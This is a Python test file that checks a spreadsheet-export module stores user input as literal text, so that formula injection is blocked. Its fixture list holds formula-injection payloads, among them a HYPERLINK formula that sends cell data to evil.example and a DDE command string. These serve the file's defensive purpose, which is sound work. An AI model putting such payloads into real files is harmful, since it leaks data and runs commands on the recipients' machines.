"""Every exported cell stays text: no formula from user input reaches a workbook."""

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from motcua.core.excel import MAX_CELL_CHARS, append_text_row, safe_text, text_cell

NASTY = [
    '=HYPERLINK("http://evil.example/?"&B2,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "=1+1",
    "Nguyễn Văn An",
]


def _roundtrip(wb: Workbook):
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return load_workbook(buf)


@pytest.mark.parametrize("write_only", [True, False])
def test_formulas_are_written_as_literal_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("Trang") if write_only else wb.active
    append_text_row(ws, [text_cell(ws, "Họ và tên", font=Font(bold=True)), "Số"])
    for value in NASTY:
        append_text_row(ws, [value, 42])
    sheet = _roundtrip(wb).worksheets[0]
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "Họ và tên"
    assert rows[0][0].font.bold
    for cells, value in zip(rows[1:], NASTY, strict=True):
        assert cells[0].data_type == "s"
        assert cells[0].value == value
        assert cells[1].value == 42
        assert cells[1].data_type == "n"
    assert not [c for row in rows for c in row if c.data_type == "f"]
    formula_like = [r[0] for r in rows[1:] if r[0].value[0] in "=+-@\t"]
    assert formula_like and all(c.quotePrefix for c in formula_like)


def test_a_cell_someone_made_as_a_formula_is_turned_back_into_text():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Trang")
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value="=1+1")
    assert cell.data_type == "f"
    append_text_row(ws, [cell])
    sheet = _roundtrip(wb).worksheets[0]
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "=1+1"


def test_safe_text():
    assert safe_text(None) == ""
    assert safe_text(7) == 7
    assert safe_text(2.5) == 2.5
    assert safe_text(True) == "Có"
    assert safe_text(dt.date(2026, 7, 1)) == "01/07/2026"
    assert safe_text(dt.datetime(2026, 7, 1, 15, 5)) == "01/07/2026 15:05"
    assert safe_text("A\x00B\x1fC") == "ABC"
    assert safe_text("Nguye\u0302\u0303n") == "Nguyễn"
    assert len(safe_text("x" * 40000)) == MAX_CELL_CHARS
    assert safe_text(float("nan")) == "nan"
